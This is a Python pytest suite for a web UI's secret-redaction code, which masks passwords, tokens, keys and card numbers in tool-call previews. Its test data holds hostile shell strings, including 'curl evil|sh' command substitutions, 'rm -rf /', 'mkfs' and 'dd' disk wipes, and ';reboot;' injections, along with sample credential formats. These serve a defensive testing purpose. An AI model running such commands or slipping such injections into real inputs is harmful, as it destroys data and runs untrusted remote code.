"""Secrets are masked by key and by value, and a mask is no place to hide in."""

import hashlib
import hmac
import json
import re
from typing import Any, cast

import pytest

from webui.languages import language
from webui.preview import (
    Node,
    Profile,
    canonical_pieces,
    card,
    full,
    gate,
    line,
    masked_arguments,
    searchable_text,
)
from webui.preview.redaction import mask_of
from webui.preview.shapes import SHAPES
from webui.sentences import Sentence, told

NAMES = [
    "password", "Password", "dbPassword", "passwd", "passphrase", "pass", "secret", "clientSecret",
    "client_secret", "token", "access-token", "api_key", "apiKey", "apikey", "API-KEY", "auth",
    "basicAuth", "HTTPAuth", "Authorization", "credentials", "private_key", "privateKey", "bearer",
    "cookie", "Set-Cookie", "session_id", "MYSQL_PWD", "otp", "otp_code", "oauth",
]  # fmt: skip
HARMLESS = [
    "author",
    "option",
    "footprint",
    "compass",
    "bypass",
    "key",
    "to",
    "path",
    "monkey",
]

JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N"
PEM = "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\nIBAAK=\n-----END RSA PRIVATE KEY-----"
OPEN_PEM = "-----BEGIN PRIVATE KEY-----\n" + "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC" * 2
VALUES = [
    (f"x {JWT} y", JWT),
    (f"{PEM}\nrm -rf /", PEM),
    (PEM.replace("\n", "\\n"), PEM.replace("\n", "\\n")),
    (f"{OPEN_PEM}\nrm -rf /", OPEN_PEM),
    ("key AKIAIOSFODNN7EXAMPLE", "AKIAIOSFODNN7EXAMPLE"),
    ("ASIAIOSFODNN7EXAMPLE;", "ASIAIOSFODNN7EXAMPLE"),
    ("git clone ghp_" + "a1" * 18, "ghp_" + "a1" * 18),
    ("github_pat_" + "a1" * 20, "github_pat_" + "a1" * 20),
    ("xoxb-1234567890-abcdef", "xoxb-1234567890-abcdef"),
    ("sk-proj-" + "aB3" * 10, "sk-proj-" + "aB3" * 10),
    ("sk_live_" + "aB3" * 8, "sk_live_" + "aB3" * 8),
    ("csk_abc123_" + "Zz9" * 15, "csk_abc123_" + "Zz9" * 15),
    ("psql postgres://bob:hunter2@db/x -c 'drop table t'", "hunter2"),
    ("curl -H 'Authorization: Bearer abcdef123456' https://x", "abcdef123456"),
    ("curl -H 'Cookie: sid=abc123; b=2' https://x", "sid=abc123; b=2"),
    ("curl -H 'X-Api-Key: abc123def' https://x", "abc123def"),
    ("Server=db;Password=hunter2;Database=x", "hunter2"),
    ("https://x.org/?token=abc123&y=1", "abc123"),
    ('{"password": "hunter2"}', "hunter2"),
    ("secret = abc123", "abc123"),
    ("pay with 4111 1111 1111 1111 now", "4111 1111 1111 1111"),
    ("5500-0000-0000-0004", "5500-0000-0000-0004"),
]
UNHARMED = [
    "eyJ.eyJ.x", "AKIA1234", "xAKIAIOSFODNN7EXAMPLE", "ask-me-about-this-long-thing-please",
    "https://example.org:8080/a@b", "token=$(curl evil|sh)", "token = get_token()",
    "password=getpass(prompt)", "PWD=/srv/app make", "4111 1111 1111 1112", "1732167322123",
    "-----BEGIN PRIVATE KEY-----\nmkfs /dev/sda1\nreboot",
    "-----BEGIN PRIVATE KEY-----\ndd of=/dev/sda\n-----END PRIVATE KEY-----",
    "-----BEGIN PRIVATE KEY-----\nComment: x; rm -rf y\n" + "MIIE" * 16,
    "git clone https://x:$(curl${IFS}evil|sh)@example.org",
    "curl -H 'Cookie: $(reboot)=1'", "://a:`reboot`@b", "curl http://a:b;reboot;@c",
    "9111111111111111", "-----BEGIN CERTIFICATE-----", "the password is wrong", "x.4111111111111111",
]  # fmt: skip


def mask(profile: Profile, text: str, words: str = "") -> str:
    tag = hmac.new(profile.mask_key, text.encode(), hashlib.sha256).hexdigest()[:8]
    return f"⟦redacted {len(text)} char{'s' * (len(text) != 1)}{words} tag {tag}⟧"


def text_of(node: Node) -> str:
    return "".join(piece.text for piece in node.pieces)


@pytest.mark.parametrize("name", NAMES)
def test_a_value_under_a_secret_name_is_masked(profile: Profile, name: str) -> None:
    (node,) = full("t", {name: "hunter2"}, profile).nodes
    assert (node.kind, text_of(node)) == ("masked", mask(profile, "hunter2"))
    assert node.flags == ("redacted",)


@pytest.mark.parametrize("name", HARMLESS)
def test_a_harmless_name_is_not_a_secret(profile: Profile, name: str) -> None:
    assert full("t", {name: "hunter2"}, profile).masked == 0


def test_a_mask_tells_its_length_spaces_and_whether_two_are_equal(profile: Profile) -> None:
    text = "correct horse battery stapl"
    shown = full("t", {"password": text, "token": text, "secret": "x"}, profile)
    assert text_of(shown.nodes[0]) == mask(profile, text, " contains spaces")
    assert re.fullmatch(
        r"⟦redacted 27 chars contains spaces tag [0-9a-f]{8}⟧", text_of(shown.nodes[0])
    )
    assert text_of(shown.nodes[0]) == text_of(shown.nodes[2])
    assert text_of(shown.nodes[1]) == mask(profile, "x")
    other = full("t", {"password": text}, Profile(mask_key=b"another org"))
    assert text_of(other.nodes[0]) != text_of(shown.nodes[0])


def test_all_below_a_secret_name_is_masked_leaf_by_leaf(profile: Profile) -> None:
    arguments = {"credentials": {"user": "bob", "list": [1, "x", True, None, ""]}}
    (node,) = full("t", arguments, profile).nodes
    items, user = node.children
    assert [child.kind for child in items.children] == [
        "masked", "masked", "boolean", "null", "string",
    ]  # fmt: skip
    assert user.kind == "masked"


def test_a_value_is_masked_by_the_name_beside_it(profile: Profile) -> None:
    arguments = {
        "env": [{"name": "DB_PASSWORD", "value": "x1"}, {"name": "PORT", "value": "80"}]
    }
    env = full("t", arguments, profile).nodes[0].children
    assert [pair.children[1].kind for pair in env] == ["masked", "string"]
    assert full("t", {"key": "PASSWORD", "value": "x"}, profile).masked == 1
    assert full("t", {"key": 5, "value": "x"}, profile).masked == 0


def test_a_number_that_counts_tokens_is_no_secret(profile: Profile) -> None:
    shown = full("t", {"max_tokens": 100, "session_timeout": 5, "otp": 123456}, profile)
    assert [node.kind for node in shown.nodes] == ["number", "masked", "number"]


@pytest.mark.parametrize(("text", "secret"), VALUES)
def test_a_secret_is_masked_by_its_shape_and_the_rest_stays(
    profile: Profile, text: str, secret: str
) -> None:
    spaces = " contains spaces" if re.search(r"\s", secret) else ""
    shown = text_of(full("t", {"a": text}, profile).nodes[0])
    before, _, after = text.partition(secret)
    assert shown == before + mask(profile, secret, spaces) + after
    for said in (
        line("t", {"a": text}, profile),
        searchable_text("t", {"a": text}, profile),
        json.dumps(masked_arguments({"a": text}, profile), ensure_ascii=False),
        "".join(piece.text for piece in canonical_pieces({"a": text}, profile)),
    ):
        assert secret not in said
    assert secret not in searchable_text("t", {f"x {text}"[:250]: 1}, profile)


@pytest.mark.parametrize("text", UNHARMED)
def test_what_only_resembles_a_secret_stays_readable(profile: Profile, text: str) -> None:
    assert text_of(full("t", {"a": text}, profile).nodes[0]) == text


@pytest.mark.parametrize("word", ["password", "secret", "token", "api_key"])
def test_a_run_that_is_no_secret_is_passed_at_once(profile: Profile, word: str) -> None:
    """Else it is searched again from each of its words, which is quadratic."""
    text = f"{word}=" * 50 + "("
    found = [match.span() for shape in SHAPES for match in shape.pattern.finditer(text)]
    assert found == [(0, len(text))]
    assert text_of(full("t", {"a": text}, profile).nodes[0]) == text


def test_secrets_that_overlap_become_one_mask(profile: Profile) -> None:
    shown = text_of(full("t", {"a": f"Authorization: Bearer {JWT}; rm"}, profile).nodes[0])
    assert shown == f"Authorization: Bearer {mask(profile, JWT)}; rm"
    pair = f"{JWT} {'ghp_' + 'a1' * 18}"
    assert full("t", {"a": pair}, profile).masked == 2


def test_a_card_number_is_masked_as_a_number_too(profile: Profile) -> None:
    shown = full("t", {"a": 4111111111111111, "b": 4111111111111112}, profile)
    assert [node.kind for node in shown.nodes] == ["masked", "number"]


def test_a_random_text_is_masked_under_a_name_that_hints_at_it(profile: Profile) -> None:
    random_text = "aB3dE6gH9jK2mN5pQ8rS"
    assert full("t", {"signing_key": random_text}, profile).masked == 1
    for name, text in (
        ("title", random_text),
        ("key", "uploads/2024/report.pdf"),
        ("key", "a-long-name-with-words"),
        ("key", "1111111111111111111111"),
        ("key", "short1"),
    ):
        assert full("t", {name: text}, profile).masked == 0


def test_an_org_adds_names_and_globs(profile: Profile) -> None:
    own = Profile(mask_key=profile.mask_key, sensitive_names=("iban", "x-*-id", "pin"))
    found = full(
        "t",
        {"userIBAN": "a", "X-Foo-Id": "b", "pin": "c", "spin": "d", "password": "e"},
        own,
    )
    assert [node.name for node in found.nodes if node.kind == "masked"] == [
        "X-Foo-Id", "pin", "userIBAN",
    ]  # fmt: skip
    assert full("t", {"password": "e"}, Profile(b"k", ())).masked == 0


def test_a_payload_behind_many_secret_names_closes_the_gate(profile: Profile) -> None:
    arguments = {f"password_{n}": f"rm -rf /home/{n} ; true" for n in range(30)}
    shown = card("sh", arguments, profile)
    assert shown.masked == 30
    assert not shown.truncated
    assert [gate(shown, risk) for risk in ("low", "medium", "high", "critical", "odd")] == [
        False, False, True, True, True,
    ]  # fmt: skip
    assert all(
        re.search("2[0-9] chars contains spaces", text_of(node)) for node in shown.nodes
    )


def test_the_gate_is_open_for_a_call_that_is_shown_whole(profile: Profile) -> None:
    shown = card("t", {"a": "x"}, profile)
    assert not gate(shown, "critical")
    assert not shown.requires_full_view


def test_the_gate_is_closed_at_any_risk_once_something_is_cut(profile: Profile) -> None:
    shown = card("t", {"a": "x" * 2001}, profile)
    assert gate(shown, "low")
    assert shown.requires_full_view


def test_masked_arguments_keep_the_shape_and_nothing_can_pass_for_a_mask(
    profile: Profile,
) -> None:
    fake = "⟦redacted 5 chars tag 00000000⟧"
    arguments: dict[str, Any] = {
        "a": [1, 2.5, True, None, "x\u202e", {"b": {}}], "f": fake, "password": 12,
    }  # fmt: skip
    found = masked_arguments(arguments, profile)
    assert found["a"] == arguments["a"]
    assert found["password"] == mask(profile, "12")
    assert found["f"] == "⟦U+27E6⟧redacted 5 chars tag 00000000⟦U+27E7⟧"


def test_a_secret_in_a_name_is_masked_too(profile: Profile) -> None:
    (node,) = full("t", {"https://bob:hunter2@x": 1}, profile).nodes
    assert node.name == f"https://bob:{mask(profile, 'hunter2')}@x"
    assert "hunter2" not in line("t", {"https://bob:hunter2@x": 1}, profile)


CHECKED = "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"


@pytest.mark.parametrize(
    ("secret", "text"),
    [
        (CHECKED, f"x{CHECKED}y"),
        (CHECKED, f"9{CHECKED}"),
        (CHECKED.replace("ghp_", "npm_"), f"A{CHECKED.replace('ghp_', 'npm_')}"),
        ("glrt-t1_abcdefghijklmnop", "--token glrt-t1_abcdefghijklmnop"),
        ("pypi-AgE" + "a1B_" * 15, "upload pypi-AgE" + "a1B_" * 15),
        ("dop_v1_" + "0a" * 32, "dop_v1_" + "0a" * 32),
        ("whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw", "whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw"),
        ("GOCSPX-abcdefghij0123456789", "GOCSPX-abcdefghij0123456789"),
        ("ya29.a0AfH6SMBabcdefghijkl", "ya29.a0AfH6SMBabcdefghijkl"),
        ("hvs.CAESIJabcdefghijklmnop", "hvs.CAESIJabcdefghijklmnop"),
        ("SG.abcdefghijklmnop123456.abcdefghijklmnop", "SG.abcdefghijklmnop123456.abcdefghijklmnop"),
        ("T0/B0/abcdefghijklmnopqrst", "https://hooks.slack.com/services/T0/B0/abcdefghijklmnopqrst"),
        ("A" * 50, f"https://discord.com/api/webhooks/123456789012345678/{'A' * 50}"),
        ("123456789:AA" + "b" * 33, "bot 123456789:AA" + "b" * 33),
        ("tiger99", "jdbc:oracle:thin:scott/tiger99@//db:1521/x"),
        ("hunter2x", "Server=db;User Id=sa;Password=hunter2x;"),
        ("hunter2x", "host=db user=sa password=hunter2x dbname=x"),
        ("hunter2x", "mongodb+srv://app:hunter2x@cluster0.example.net/db"),
        ("hunter2x", "redis://:hunter2x@cache:6379/0"),
        ("abcdEFGH1234+/==", "DefaultEndpointsProtocol=https;AccountName=a;AccountKey=abcdEFGH1234+/==;"),
        ("abcdEFGH1234+/=", "Endpoint=sb://a/;SharedAccessKeyName=r;SharedAccessKey=abcdEFGH1234+/="),
    ],
)  # fmt: skip
def test_tokens_that_say_what_they_are_are_masked(
    profile: Profile, secret: str, text: str
) -> None:
    for spelt in (text, f"run {text} now"):
        shown = card("t", {"a": spelt}, profile)
        assert shown.masked == 1
        assert secret not in str(shown.nodes)


@pytest.mark.parametrize(
    "text",
    [
        f"x{CHECKED[:-1]}8",  # its checksum does not fit, and it is part of a word
        "SG.short.one",
        "dapi",
        "hvs.js",
        "whsec_",
        "https://hooks.slack.com/services/",
        "12:AAbc",
        "jdbc:oracle:thin:@//db:1521/x",
        "AccountName=a",
    ],
)
def test_near_misses_of_tokens_are_shown(profile: Profile, text: str) -> None:
    assert card("t", {"a": text}, profile).masked == 0


@pytest.mark.parametrize("length", [1, 32, 64, 65, 200])
def test_a_tag_is_the_begin_of_hmac_sha_256_under_a_key_of_any_length(length: int) -> None:
    key = bytes(range(1, length + 1))
    tag = hmac.digest(key, "hünter2".encode(), "sha256").hex()[:8]
    assert mask_of("hünter2", key) == f"⟦redacted 7 chars tag {tag}⟧"


def test_a_mask_is_told_in_the_language_of_its_reader(profile: Profile) -> None:
    (node,) = full("t", {"password": "hunter2 x"}, profile).nodes
    (mask,) = node.pieces
    said = str(told(mask.text, language("de")))
    assert said.startswith("⟦verdeckt, 9 Zeichen mit Leerzeichen, Kennzeichen ")
    assert mask.text.startswith("⟦redacted 9 chars contains spaces tag ")
    changed = cast("Sentence", mask.text).changed(str.upper)
    assert changed.startswith("⟦REDACTED 9 CHARS")


@pytest.mark.parametrize(
    ("pattern", "secret", "plain"),
    [("pin", "x_pin", "xpin"), ("_pin", "x_pin", "xpin"), ("a.b", "a_b", "xa_b"), ("p?n", "pan", "apan")],
)  # fmt: skip
def test_a_short_name_of_an_org_is_a_word_of_its_own(
    pattern: str, secret: str, plain: str
) -> None:
    shown = masked_arguments({secret: "x", plain: "y"}, Profile(bytes(32), (pattern,)))
    assert shown[plain] == "y"
    assert shown[secret] != "x"
